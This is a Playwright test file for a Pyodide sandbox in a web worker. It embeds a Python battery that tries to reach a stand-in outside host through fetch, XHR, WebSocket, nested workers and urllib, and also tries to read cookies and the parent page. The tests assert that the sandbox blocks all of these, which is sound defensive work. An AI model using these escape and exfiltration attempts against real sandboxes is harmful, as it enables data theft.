import { test } from '@playwright/test';
import { withoutPolicy } from './bare-server.ts';
import { expect, FrameHost, runPython } from './frame-host.ts';
import { listenOutside } from './leaks.ts';

/** All ways out that a worker's page has, by Python's own door to JavaScript. `outside`: host and port. */
const attempts = (outside: string, server: string) => `
import js, asyncio, traceback
from pyodide.ffi import run_sync, to_js
from js import Object
out = 'http://${outside}/'
def options(**given): return to_js(given, dict_converter=Object.fromEntries)
def wait(promise): return run_sync(promise)
def xhr(where):
    x = js.XMLHttpRequest.new(); x.open('GET', where, False); x.send(); return x.status == 200
def scripts(where):
    js.importScripts(where); return True
def workers():
    js.Worker.new('data:text/javascript,for(;;){}'); return True
def inner():
    code = "fetch('" + out + "inner', {mode: 'no-cors'})"
    js.Worker.new('data:text/javascript,' + js.encodeURIComponent(code), options(type='module'))
tries = {
  'fetch': lambda: wait(js.fetch(out + 'fetch', options(mode='no-cors'))),
  'call': lambda: wait(js.fetch('${server}/Login/getLogo', options(mode='no-cors'))),
  'frame': lambda: wait(js.fetch('${server}/workspace/frame/html/', options(mode='no-cors'))),
  'xhr': lambda: xhr(out + 'xhr'),
  'socket': lambda: js.WebSocket.new('ws://${outside}/socket') and False,
  'events': lambda: js.EventSource.new(out + 'events') and False,
  'scripts': lambda: scripts(out + 'scripts'),
  'bytes': lambda: scripts(js.URL.createObjectURL(js.Blob.new(to_js(['1'])))),
  'text': lambda: scripts('data:text/javascript,1'),
  'inner': inner,
  'workers': workers,
  'remote': lambda: js.Worker.new(out + 'remote'),
  'eval': lambda: js.eval('1'),
  'rtc': lambda: js.RTCPeerConnection.new(),
  'page': lambda: js.document.cookie,
  'parent': lambda: js.parent.document,
  'database': lambda: js.indexedDB.open('x') and False,
  'caches': lambda: wait(js.caches.open('x')),
  'service': lambda: wait(js.navigator.serviceWorker.register('x.js')),
  'urllib': lambda: __import__('urllib.request').request.urlopen(out + 'urllib'),
  'disk': lambda: wait(js.navigator.storage.getDirectory()),
}
got = []
for name, attempt in tries.items():
    try:
        if attempt() is not False and name != 'inner': got.append(name)
    except BaseException: pass
import time
time.sleep(1.5)
print('got:', ','.join(got), 'done')
js.postMessage(options(type='write', kind='log', text='forged'))
js.postMessage(options(type='draw', commands='[{"do":"paper","wide":1e9}]', isAtOnce=True))
js.postMessage(options(banyan='hello'))
`;

/** What the same program reaches where the page has no policy; the rest is what a worker of an opaque origin never has. */
const shownToLeak = ['fetch', 'xhr', 'socket', 'events'];

test.describe('the sandbox of Python', () => {
  test('a page without our policy leaks: the battery sees what it is there to see [CW-06]', {
    tag: '@long',
  }, async ({ page }) => {
    const outside = await listenOutside();
    const server = process.env['BANYAN_URL'] ?? '';
    const bare = await withoutPolicy(server);
    const host = await FrameHost.open(page, 'python', {}, bare.address);
    await runPython(host, { 'main.py': attempts(new URL(outside.control).host, server) });
    await expect(host.output).toContainText(/got:.*done/);
    expect(await host.output.innerText()).toMatch(/got: .*eval.* done/);
    for (const way of shownToLeak) expect.soft([...outside.heard], way).toContain(way);
    bare.close();
    outside.close();
  });

  test('reaches nothing: no request, no storage, no other page [CW-06]', async ({ page }) => {
    const outside = await listenOutside();
    const finished: string[] = [];
    page.on('requestfinished', (request) => finished.push(request.url()));
    const host = await FrameHost.open(page, 'python');
    const server = process.env['BANYAN_URL'] ?? '';
    await runPython(host, { 'main.py': attempts(new URL(outside.control).host, server) });
    await expect(host.output).toContainText(/got:.*done/);
    expect(await host.output.innerText()).toMatch(/got: {2}done/);
    await host.hear('stopped');
    expect([...outside.heard]).toEqual([]);
    const own = `${server}/workspace/frame/python/`;
    const others = finished.filter((url) => !url.startsWith(own) && !/^(?:data|blob):/.test(url));
    expect(others).toEqual([`${server}/frame-host`]);
    expect(page.url()).toMatch(/frame-host$/);
    outside.close();
  });
});
